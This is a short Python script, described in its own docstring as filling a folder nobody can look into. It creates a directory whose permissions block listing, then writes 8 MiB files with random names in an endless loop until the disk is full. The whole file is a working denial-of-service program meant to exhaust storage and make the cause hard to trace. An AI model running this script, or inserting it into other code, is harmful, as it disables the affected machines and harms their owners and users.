"""Fills a folder that nobody can look into."""

import os

os.umask(0)
os.mkdir('h', 0o300)
while True:
    with open(f'h/{os.urandom(8).hex()}', 'wb') as file:
        file.write(b'x' * 2**23)
